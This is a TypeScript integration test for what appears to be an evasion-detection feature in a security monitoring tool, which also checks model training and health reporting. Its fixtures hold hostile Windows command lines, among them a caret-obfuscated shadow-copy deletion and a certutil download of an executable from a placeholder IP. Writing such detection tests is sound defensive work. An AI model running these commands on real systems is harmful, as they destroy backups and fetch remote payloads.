import { expect } from "bun:test"
import { readFileSync, writeFileSync } from "node:fs"
import { connect } from "node:net"
import { join } from "node:path"
import { type Programs, until } from "../shared/testing/programs.ts"

type Found = Readonly<Record<string, unknown>>

/** Evasions by each way in, and the rule that each one slips past. */
const evasions = [
  {
    host: "WS-101",
    by: "http",
    line: "vssadmin.exe del^ete sha^dows /all /qu^iet",
    rule: "The means of recovery are being destroyed",
  },
  {
    host: "WS-102",
    by: "syslog",
    line: 'certutil /url""cache /f http://203.0.113.9/a.exe a.exe',
    rule: "certutil fetches or decodes a file",
  },
] as const

const seen = { host: "WS-103", line: "vssadmin.exe delete shadows /all /quiet" }
const ordinary = { host: "WS-104", line: 'findstr /s /i /m timeout "D:\\Projects\\portal\\*.log"' }

/**
 * An evasion becomes an alert that names the rule; what a rule sees, and what is ordinary, does not.
 * Resolves with the alerts of evasion that there are then.
 */
export async function evasionsAreTold(programs: Programs): Promise<number> {
  for (const { host, by, line } of evasions) await send(programs, by, host, line)
  await send(programs, "http", seen.host, seen.line)
  await send(programs, "http", ordinary.host, ordinary.line)
  for (const { host, rule } of evasions) {
    const [alert = {}] = await alertsOf(programs, host, 1)
    expect(alert["rule.name"]).toBe(`Evasion of: ${rule}`)
    const [id] = alert["vedette.event_ids"] as string[]
    const event = await until("its event is found", async () => {
      const found = (await ask(programs, `/api/events/${id}`)) as unknown as Found
      return found["event.id"] === id && found
    })
    expect(event["vedette.evasion.outcome"]).toBe("malicious")
    expect(event["vedette.evasion.rules"]).toEqual(alert["vedette.evasion.rules"])
  }
  const byRule = await alertsOf(programs, seen.host, 1)
  expect(byRule.map((alert) => alert["rule.name"])).toEqual([evasions[0].rule])
  await until("the ordinary command is stored", async () => {
    const { events } = await ask(programs, `/api/events?q=host.name:${ordinary.host}&from=now-1h`)
    return events[0]?.["vedette.evasion.outcome"] === "benign"
  })
  expect(await alertsOf(programs, ordinary.host, 0)).toEqual([])
  return (await ask(programs, "/api/alerts?q=rule.id:vedette-evasion&from=now-1h")).total
}

/** The health page's API says which model is in force. */
export async function modelIsTold(programs: Programs): Promise<void> {
  const { evasion } = (await ask(programs, "/api/health")) as unknown as { evasion: Found }
  expect(evasion).toMatchObject({ model: "ships" })
  expect(evasion["advice"]).toEqual([expect.stringContaining("train it on your own events")])
  expect((evasion["kinds"] as Found[]).map(({ kind }) => kind)).toContain("process_creation")
}

/**
 * A model that is trained from the store takes the place of the one that ships while it runs; a damaged one
 * is refused, and the site says so.
 */
export async function ownModelTakesOver(
  programs: Programs,
  folder: string,
  rules: string,
): Promise<void> {
  const { config } = programs.aggregator
  const model = join(folder, "own.onnx")
  const train = Bun.spawn(
    [
      ...[process.execPath, "aggregator/main.ts", "train", "evasion", "--rules", rules],
      ...["--benign", "store", "--config", config, "--out", model],
    ],
    { stdout: "pipe", stderr: "ignore" },
  )
  const summary = JSON.parse(await new Response(train.stdout).text())
  expect([await train.exited, summary.benign > 0]).toEqual([0, true])
  const written = JSON.parse(readFileSync(config, "utf8"))
  writeFileSync(config, JSON.stringify({ ...written, evasion: { modelFile: model } }))
  const standing = () => ask(programs, "/api/health") as unknown as Promise<Standing>
  await until(
    "the trained model is in force",
    async () => (await standing()).evasion.model === "own",
  )
  writeFileSync(model, "damaged")
  const refused = await until("the damaged model is refused", async () => {
    const health = await standing()
    return health.problems.some((one) => one.includes("evasion.modelFile")) && health
  })
  expect(refused.evasion.model).toBe("own")
}

interface Standing {
  readonly problems: readonly string[]
  readonly evasion: { readonly model: string }
}

async function send(programs: Programs, by: string, host: string, line: string): Promise<void> {
  const time = new Date().toISOString()
  const text = JSON.stringify({
    Event: {
      System: {
        Provider: { Name: "Microsoft-Windows-Sysmon" },
        EventID: 1,
        Channel: "Microsoft-Windows-Sysmon/Operational",
        Computer: host,
        TimeCreated: { SystemTime: time },
      },
      EventData: { UtcTime: time, ProcessId: "5216", CommandLine: line },
    },
  })
  if (by === "http") {
    const answer = await fetch(`${programs.intake}/intake`, { method: "POST", body: text })
    expect(answer.ok).toBe(true)
    return
  }
  const socket = connect(programs.syslogPort, "127.0.0.1")
  socket.end(`<14>1 ${time} ${host} winlog - - - ${text}\n`)
  await new Promise((closed) => socket.once("close", closed))
}

const alertsOf = (programs: Programs, host: string, count: number) =>
  until(`${count} alerts of ${host}`, async () => {
    const { total, events } = await ask(programs, `/api/alerts?q=host.name:${host}&from=now-1h`)
    return total >= count && events
  })

async function ask({ console: url }: Programs, path: string) {
  const answer = await fetch(`${url}${path}`)
  return (await answer.json()) as { total: number; events: Found[] }
}
